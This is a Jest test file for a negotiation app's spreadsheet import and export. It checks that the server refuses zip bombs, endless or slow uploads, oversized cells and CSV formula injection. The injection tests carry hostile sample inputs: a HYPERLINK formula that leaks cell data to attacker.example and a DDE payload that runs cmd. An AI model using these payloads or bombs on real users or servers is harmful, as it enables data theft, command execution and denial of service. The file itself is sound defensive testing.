import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { randomUUID } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import request from 'supertest';
import { PARTIES } from '../../src/seed/demo-reference.js';
import {
  xinheRoundScript,
  type DemoRole,
} from '../../src/industries/wool-knitwear/demo/xinhe-round.script.js';
import { httpClient } from '../support/http.js';
import { startTestApp, type TestApp } from '../support/test-app.js';
import { zip } from '../support/zip.js';

// Issue 8 item 1: a spreadsheet bomb is refused before the body is read for callers the door
// would refuse anyway, and refused by its limits (naming them) for the right caller, while the server
// keeps answering. ADR 0016.

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const CSV = 'text/csv';
const MAX_CELLS = 3_000;
// Short, so that the trickling upload below is refused quickly; far above what a local upload needs.
const READ_TIMEOUT_MS = 2_000;

let t: TestApp;
let api: ReturnType<typeof httpClient>;
let port: number;
let round: { id: string; revision: number };

const AS: Record<DemoRole, string> = {
  unionChair: 'chen.chair',
  associationChief: 'lin.chief',
  recorder: 'ye.recorder',
  labourOfficer: 'liu.labour',
};

beforeAll(async () => {
  t = await startTestApp({
    SPREADSHEET_MAX_CELLS: String(MAX_CELLS),
    SPREADSHEET_READ_TIMEOUT_MS: String(READ_TIMEOUT_MS),
  });
  api = httpClient(t);
  const server = t.app.getHttpServer();
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
  const opened = await api.post('chen.chair', '/api/negotiations', {
    workerPartyId: PARTIES.xinheUnion.id,
    employerPartyId: PARTIES.xinheAssociation.id,
    year: 2061,
    title: 'bomb round',
  });
  const steps = xinheRoundScript(2061).toSecondSession;
  let revision = 1;
  for (const s of steps.slice(0, steps.findIndex((x) => x.type === 'session.opened') + 1))
    revision = (
      await api.post(AS[s.as], `/api/negotiations/${opened.body.id}/events`, {
        type: s.type,
        expectedRevision: revision,
        payload: s.payload,
      })
    ).body.revision;
  round = { id: opened.body.id, revision };
}, 60_000);
afterAll(() => t?.close());

// The parts an XLSX needs, with the shared strings given.
const workbook = (sharedStrings: ZipData, declaredSize?: number) =>
  zip([
    {
      name: '[Content_Types].xml',
      data: Buffer.from(
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
      ),
    },
    {
      name: 'xl/worksheets/sheet1.xml',
      data: Buffer.from(
        '<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>',
      ),
    },
    { name: 'xl/sharedStrings.xml', data: sharedStrings, declaredSize },
  ]);
type ZipData = Parameters<typeof zip>[0][number]['data'];

// One shared string of 200 MiB that compresses to a few hundred KiB; built once (it costs seconds).
const bombs = new Map<number | undefined, Buffer>();
const bomb = (declaredSize?: number) => {
  if (!bombs.has(declaredSize))
    bombs.set(
      declaredSize,
      workbook({ chunk: Buffer.alloc(1_048_576, 'a'), times: 200 }, declaredSize),
    );
  return bombs.get(declaredSize)!;
};
const SLOW = 60_000;

const offerPath = (id: string, revision: number) =>
  `/api/negotiations/${id}/offers?expectedRevision=${revision}&scope=full`;

async function upload(username: string, path: string, type: string, body: Buffer) {
  return request(api.server)
    .post(path)
    .set('authorization', `Bearer ${await api.token(username)}`)
    .set('idempotency-key', randomUUID())
    .set('content-type', type)
    .send(body);
}

// A POST whose body never ends: if the server waited for the body, no answer would ever come.
// Pumped as fast as the server takes it, or (trickle) one chunk and then nothing.
async function endlessUpload(username: string, path: string, { trickle = false } = {}) {
  const token = await api.token(username);
  return new Promise<{ status: number; body: { code: string; message: string }; ended: boolean }>(
    (resolve, reject) => {
      const req = http.request({
        host: '127.0.0.1',
        port,
        path,
        method: 'POST',
        headers: {
          authorization: `Bearer ${token}`,
          'idempotency-key': randomUUID(),
          'content-type': XLSX,
          'transfer-encoding': 'chunked',
        },
      });
      const chunk = Buffer.alloc(16_384, 0x50);
      let answered = false;
      const pump = () => {
        if (trickle) req.write(chunk);
        else while (!answered && req.write(chunk));
      };
      if (!trickle) req.on('drain', pump);
      req.on('response', (res) => {
        answered = true;
        const ended = req.writableEnded;
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (d: string) => (text += d));
        res.on('end', () => {
          req.destroy();
          resolve({ status: res.statusCode!, body: JSON.parse(text), ended });
        });
      });
      req.on('error', (e) => (answered ? undefined : reject(e)));
      pump();
    },
  );
}

describe('admission comes before any byte of the body', () => {
  it('refuses an auditor, a missing round and a stale revision while the body is still arriving', async () => {
    const auditor = await endlessUpload('qian.auditor', offerPath(round.id, round.revision));
    const missing = await endlessUpload('chen.chair', offerPath(randomUUID(), 1));
    const stale = await endlessUpload('chen.chair', offerPath(round.id, round.revision + 5));
    expect(
      [auditor, missing, stale].map((r) => ({
        status: r.status,
        code: r.body.code,
        ended: r.ended,
      })),
    ).toEqual([
      { status: 404, code: 'NEGOTIATION_NOT_FOUND', ended: false },
      { status: 404, code: 'NEGOTIATION_NOT_FOUND', ended: false },
      { status: 409, code: 'NEGOTIATION_STALE_REVISION', ended: false },
    ]);
  });

  it('refuses a side that may not table an offer (the recorder) with 403 before reading', async () => {
    const recorder = await endlessUpload('ye.recorder', offerPath(round.id, round.revision));
    expect({ status: recorder.status, code: recorder.body.code, ended: recorder.ended }).toEqual({
      status: 403,
      code: 'EVENT_FORBIDDEN',
      ended: false,
    });
  });

  it("refuses another industry's chair importing a catalog with 403, not 422, before reading", async () => {
    const shoes = await endlessUpload(
      'zhu.shoes',
      '/api/catalogs/wool-knitwear/import?basedOnVersion=1',
    );
    expect({ status: shoes.status, code: shoes.body.code, ended: shoes.ended }).toEqual({
      status: 403,
      code: 'ROLE_FORBIDDEN',
      ended: false,
    });
  });

  it(
    'refuses the bomb from an auditor and from a foreign chair without inflating it',
    async () => {
      const file = bomb();
      const auditor = await upload('qian.auditor', offerPath(round.id, round.revision), XLSX, file);
      const shoes = await upload('zhu.shoes', '/api/catalogs/wool-knitwear/import', XLSX, file);
      expect([auditor.status, shoes.status]).toEqual([404, 403]);
    },
    SLOW,
  );
});

describe('the right caller meets the limits, each named', () => {
  it(
    'refuses a 200 MiB shared string by its declared size while /health still answers',
    async () => {
      const [bombed, catalog, health] = await Promise.all([
        upload('chen.chair', offerPath(round.id, round.revision), XLSX, bomb()),
        upload('chen.chair', '/api/catalogs/wool-knitwear/import?basedOnVersion=1', XLSX, bomb()),
        request(api.server).get('/api/health'),
      ]);
      expect(health.status).toBe(200);
      for (const res of [bombed, catalog]) {
        expect({ status: res.status, code: res.body.code }).toEqual({
          status: 413,
          code: 'SPREADSHEET_TOO_LARGE',
        });
        expect(res.body.message).toContain('exceeds 32 MiB');
      }
    },
    SLOW,
  );

  it(
    'refuses a part that inflates past the size it declares, without echoing the zip library',
    async () => {
      const res = await upload('chen.chair', offerPath(round.id, round.revision), XLSX, bomb(1000));
      expect({ status: res.status, code: res.body.code }).toEqual({
        status: 422,
        code: 'SPREADSHEET_UNREADABLE',
      });
      expect(res.body.message).toContain(
        'does not decompress to the size it declares (1000 bytes)',
      );
    },
    SLOW,
  );

  it(
    'refuses a cell text longer than SPREADSHEET_MAX_STRING_CHARS',
    async () => {
      const long = workbook(Buffer.from(`<sst><si><t>${'长'.repeat(40_000)}</t></si></sst>`));
      const res = await upload('chen.chair', offerPath(round.id, round.revision), XLSX, long);
      expect({ status: res.status, code: res.body.code }).toEqual({
        status: 422,
        code: 'SPREADSHEET_LIMIT_EXCEEDED',
      });
      expect(res.body.message).toContain('exceeds 32767 (setting SPREADSHEET_MAX_STRING_CHARS)');
    },
    SLOW,
  );

  it(
    'refuses more cells than SPREADSHEET_MAX_CELLS, in XLSX and in CSV',
    async () => {
      const rows = Array.from({ length: 1_100 }, (_, i) => `V-SJ,KN-${i},1.0000`);
      const csv = Buffer.from(['品种编码,工序编码,工价（元）', ...rows].join('\n'), 'utf8');
      const cells = Array.from({ length: 1_100 }, (_, i) => `<row r="${i + 1}"><c/><c/><c/></row>`);
      const xlsx = zip([
        {
          name: 'xl/worksheets/sheet1.xml',
          data: Buffer.from(`<worksheet><sheetData>${cells.join('')}</sheetData></worksheet>`),
        },
      ]);
      for (const [type, body] of [
        [CSV, csv],
        [XLSX, xlsx],
      ] as const) {
        const res = await upload('chen.chair', offerPath(round.id, round.revision), type, body);
        expect({ status: res.status, code: res.body.code }).toEqual({
          status: 422,
          code: 'SPREADSHEET_LIMIT_EXCEEDED',
        });
        expect(res.body.message).toContain(`exceeds ${MAX_CELLS} (setting SPREADSHEET_MAX_CELLS)`);
      }
    },
    SLOW,
  );

  it(
    'refuses bodies that trickle in past SPREADSHEET_READ_TIMEOUT_MS, and frees their upload slots',
    async () => {
      const path = offerPath(round.id, round.revision);
      const slow = await Promise.all(
        [1, 2, 3, 4].map(() => endlessUpload('chen.chair', path, { trickle: true })),
      );
      for (const res of slow) {
        expect({ status: res.status, code: res.body.code, ended: res.ended }).toEqual({
          status: 408,
          code: 'SPREADSHEET_UPLOAD_TOO_SLOW',
          ended: false,
        });
        expect(res.body.message).toContain('within 2 s (setting SPREADSHEET_READ_TIMEOUT_MS)');
      }
      // All four slots (SPREADSHEET_MAX_CONCURRENT_UPLOADS) were held; the next upload is read.
      const next = await upload(
        'chen.chair',
        path,
        CSV,
        Buffer.from('品种编码,工序编码\n', 'utf8'),
      );
      expect({ status: next.status, code: next.body.code }).toEqual({
        status: 422,
        code: 'RATE_TABLE_FILE_INVALID',
      });
    },
    SLOW,
  );

  it('leaves the round untouched by every refusal', async () => {
    expect((await api.get('chen.chair', `/api/negotiations/${round.id}`)).body.revision).toBe(
      round.revision,
    );
  });
});

// A new shipbuilding version is based on the latest one and retires its processes, so that the
// rule every old code must be mapped (not under test here) holds.
const nextVersion = async () => {
  const versions = (await api.get('admin', '/api/catalogs?industry=shipbuilding')).body.items as {
    version: number;
  }[];
  if (versions.length === 0) return { mappings: [] };
  const basedOnVersion = versions.at(-1)!.version;
  const { processes } = (await api.get('admin', `/api/catalogs/shipbuilding/${basedOnVersion}`))
    .body as { processes: { code: string }[] };
  return {
    basedOnVersion,
    mappings: processes.map((p) => ({ fromCode: p.code, toCodes: [], kind: 'retired' })),
  };
};

describe('formula injection (OWASP CSV injection)', () => {
  it('refuses a catalog file whose process names would run as formulas, listing the rows', async () => {
    const csv = Buffer.from(
      [
        '车间/工种编码,车间/工种名称,工序编码,工序名称,英文名称,单位',
        'S1,横机,P1,"=HYPERLINK(""http://attacker.example/?leak=""&A2,""x"")",,件',
        "S1,横机,P2,=cmd|' /C calc'!A0,,件",
        'S1,横机,P3,套口,,件',
      ].join('\n'),
      'utf8',
    );
    const res = await upload('admin', '/api/catalogs/shipbuilding/import', CSV, csv);
    expect(res.status).toBe(422);
    expect(res.body.code).toBe('CATALOG_FILE_INVALID');
    expect(
      res.body.details.problems.map((p: { row: number; column: string }) => [p.row, p.column]),
    ).toEqual([
      [2, '工序名称'],
      [3, '工序名称'],
    ]);
  });

  it('refuses the same names sent as JSON to POST /catalogs', async () => {
    const res = await api.post('admin', '/api/catalogs', {
      industryCode: 'shipbuilding',
      note: 'formula',
      productTypes: [],
      sections: [{ code: 'S1', nameZh: '@SUM(A1)' }],
      processes: [{ code: 'P1', sectionCode: 'S1', nameZh: '+1+1', unit: 'piece' }],
      ...(await nextVersion()),
    });
    expect(res.status).toBe(422);
    expect(res.body.details.violations.map((v: { field: string }) => v.field)).toEqual([
      'sections[0].nameZh',
      'processes[0].nameZh',
    ]);
  });

  it('neutralises a formula-like name already stored when the other side downloads the CSV', async () => {
    const created = await api.post('admin', '/api/catalogs', {
      industryCode: 'shipbuilding',
      note: 'legacy names',
      productTypes: [],
      sections: [{ code: 'S1', nameZh: '船体' }],
      processes: [{ code: 'P1', sectionCode: 'S1', nameZh: '除锈', unit: 'piece' }],
      ...(await nextVersion()),
    });
    expect(created.status).toBe(201);
    // As a name stored before the rule existed.
    await t.app
      .get((await import('typeorm')).DataSource)
      .query(`UPDATE catalog_process SET name_zh = $1 WHERE catalog_id = $2`, [
        '=HYPERLINK("http://attacker.example/?leak="&A2,"x")',
        created.body.id,
      ]);
    const csv = await request(api.server)
      .get(`/api/catalogs/shipbuilding/${created.body.version}/export?format=csv`)
      .set('authorization', `Bearer ${await api.token('zhu.shoes')}`)
      .buffer(true)
      .parse((res, done) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (d: string) => (text += d));
        res.on('end', () => done(null, text));
      });
    expect(csv.body).toContain(`"'=HYPERLINK(""http://attacker.example/?leak=""&A2,""x"")"`);
  });
});
